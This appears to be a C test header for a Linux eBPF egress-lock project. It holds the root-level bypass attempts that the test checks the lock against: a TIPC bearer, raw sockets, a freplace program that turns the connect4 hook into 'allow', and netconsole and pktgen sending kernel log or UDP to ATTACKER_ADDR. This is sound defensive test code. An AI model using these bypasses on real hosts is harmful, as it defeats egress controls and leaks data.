/* SPDX-License-Identifier: GPL-2.0 */
/*
 * What root tries against the lock in egress_lock_test.c, each as a
 * function that says only how the kernel answered (0 or -errno): kernel
 * senders configured to send past every hook (netconsole, pktgen), a TIPC
 * bearer, a socket of a family the policy does not name, and an extension
 * program that replaces the connect4 program's body. Static functions:
 * include this once, in egress_lock_test.c.
 */
#ifndef IOTGUARD_TEST_EGRESS_LOCK_ATTACKS_H
#define IOTGUARD_TEST_EGRESS_LOCK_ATTACKS_H

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <linux/genetlink.h>
#include <linux/tipc_netlink.h>
#include <bpf/bpf.h>
#include <bpf/btf.h>
#include "bpf_pin.h"
#include "egress.h"
#include "genl_raw.h"
#include "sessions.h"

/*
 * TIPC's bearer command cmd (TIPC_NL_BEARER_ENABLE, _DISABLE) for
 * "eth:veth0", as `tipc bearer enable media eth dev veth0` sends it: the
 * kernel's answer, or the send's refusal (-EPERM).
 */
static int tipc_bearer(uint8_t cmd)
{
	static const char name[] = "eth:veth0";
	struct raw_attrs a = { .len = 0 };
	struct raw_genl g;
	size_t nest;
	int ret = raw_genl_open(&g, TIPC_GENL_V2_NAME);

	if (ret)
		return ret;
	nest = raw_nest_start(&a, TIPC_NLA_BEARER);
	raw_put(&a, TIPC_NLA_BEARER_NAME, name, sizeof(name));
	raw_nest_end(&a, nest);
	ret = raw_genl_send(&g, cmd, 0, &a, NULL, NULL);
	raw_genl_close(&g);
	return ret;
}

/* A socket of this family (its fd closed): 0, or -errno. */
static int family_socket(int family)
{
	int fd = socket(family, SOCK_RAW, 1);

	if (fd < 0)
		return -errno;
	close(fd);
	return 0;
}

/* A UDP port the peer does not count, and the policy refuses. */
#define UDP_UNCOUNTED 9

/* The verifier's word on the last extension loaded. */
static char ext_log[4096];

/*
 * Root's extension (freplace) program for the connect4 program's body:
 * "allow". Its BTF says what it replaces: a global function of the same
 * name and shape. The program fd, or -errno.
 */
static int connect4_extension(void)
{
	struct bpf_insn ret_allow[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	struct bpf_func_info func = { .insn_off = 0 };
	struct bpf_prog_info info = {};
	__u32 len = sizeof(info);
	struct btf *btf, *target_btf = NULL;
	int target, fd = -EINVAL, type, ctx, proto;

	target = bpf_pin_link_prog_fd(EGRESS_LINK_PIN_PREFIX "egress_connect4");
	if (target < 0)
		return target;
	btf = btf__new_empty();
	if (!btf || bpf_obj_get_info_by_fd(target, &info, &len))
		goto out;
	target_btf = btf__load_from_kernel_by_id(info.btf_id);
	/* int (struct bpf_sock_addr *ctx): the parameters follow their prototype. */
	ctx = btf__add_ptr(btf, btf__add_struct(btf, "bpf_sock_addr", 0));
	proto = btf__add_func_proto(btf, btf__add_int(btf, "int", 4, BTF_INT_SIGNED));
	if (!target_btf || ctx < 0 || proto < 0 || btf__add_func_param(btf, "ctx", ctx))
		goto out;
	func.type_id = btf__add_func(btf, "egress_connect4", BTF_FUNC_GLOBAL, proto);
	type = btf__find_by_name_kind(target_btf, "egress_connect4", BTF_KIND_FUNC);
	fd = type > 0 ? btf__load_into_kernel(btf) : -ENOENT;
	if (!fd) {
		LIBBPF_OPTS(bpf_prog_load_opts, load, .prog_btf_fd = btf__fd(btf),
			    .func_info = &func, .func_info_cnt = 1,
			    .func_info_rec_size = sizeof(func), .attach_prog_fd = target,
			    .attach_btf_id = type, .log_buf = ext_log,
			    .log_size = sizeof(ext_log), .log_level = 1);

		fd = bpf_prog_load(BPF_PROG_TYPE_EXT, "allow_all", "GPL", ret_allow, 2, &load);
		fd = fd < 0 ? -errno : fd;
	}
out:
	btf__free(target_btf);
	btf__free(btf);
	close(target);
	return fd;
}

#define CONFIGFS "/sys/kernel/config"
#define NETCONSOLE_TARGET CONFIGFS "/netconsole/pre"
#define PKTGEN "/proc/net/pktgen/"
/* The kernel's ENOTSUPP: a device without netpoll, for netconsole. */
#define NETPOLL_UNSUPPORTED 524

/* The write that failed last, for the log. */
static char write_failed[128];

/* One line of text to the file at path: 0 or -errno. */
static int write_line(const char *path, const char *text)
{
	char line[128];
	int fd, ret = 0, n;

	/*
	 * pgctrl takes its last byte for the newline. One write(): not
	 * dprintf(), which seeks first, and /dev/kmsg refuses SEEK_CUR.
	 */
	n = snprintf(line, sizeof(line), "%s\n", text);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, line, n) < 0)
		ret = -errno;
	if (fd >= 0)
		close(fd);
	if (ret)
		snprintf(write_failed, sizeof(write_failed), "%s < %s: %s", path, text,
			 strerror(-ret));
	return ret;
}

/*
 * netconsole's target "pre" (made if missing, disabled) sends the kernel
 * log from veth0 to the peer's port: 0 or -errno. Broadcast to the link:
 * the peer takes it whatever its MAC.
 */
static int netconsole_target(int port)
{
	char text[16];
	int ret;

	if (mkdir(NETCONSOLE_TARGET, 0755) && errno != EEXIST)
		return -errno;
	snprintf(text, sizeof(text), "%d", port);
	ret = write_line(NETCONSOLE_TARGET "/dev_name", "veth0");
	if (!ret)
		ret = write_line(NETCONSOLE_TARGET "/local_ip", DEVICE_ADDR);
	if (!ret)
		ret = write_line(NETCONSOLE_TARGET "/remote_ip", ATTACKER_ADDR);
	if (!ret)
		ret = write_line(NETCONSOLE_TARGET "/remote_port", text);
	return ret;
}

static int pktgen_cmd(const char *name, const char *cmd)
{
	char path[64];

	snprintf(path, sizeof(path), PKTGEN "%s", name);
	return write_line(path, cmd);
}

/*
 * pktgen's first thread sends one UDP datagram from veth0 to the peer's
 * port, broadcast to the link; then forgets the device: 0 or -errno.
 */
static int pktgen_send(int port)
{
	char min[32], max[32];
	int ret;

	snprintf(min, sizeof(min), "udp_dst_min %d", port);
	snprintf(max, sizeof(max), "udp_dst_max %d", port);
	ret = pktgen_cmd("kpktgend_0", "rem_device_all");
	if (!ret)
		ret = pktgen_cmd("kpktgend_0", "add_device veth0");
	if (!ret)
		ret = pktgen_cmd("veth0", "count 1");
	if (!ret)
		ret = pktgen_cmd("veth0", "dst " ATTACKER_ADDR);
	if (!ret)
		ret = pktgen_cmd("veth0", "dst_mac ff:ff:ff:ff:ff:ff");
	if (!ret)
		ret = pktgen_cmd("veth0", min);
	if (!ret)
		ret = pktgen_cmd("veth0", max);
	if (!ret)
		ret = pktgen_cmd("pgctrl", "start");
	if (!ret)
		ret = pktgen_cmd("kpktgend_0", "rem_device_all");
	return ret;
}

/* open(path, flags): 0 or -errno. */
static int try_open(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);

	if (fd < 0)
		return -errno;
	close(fd);
	return 0;
}

#endif /* IOTGUARD_TEST_EGRESS_LOCK_ATTACKS_H */
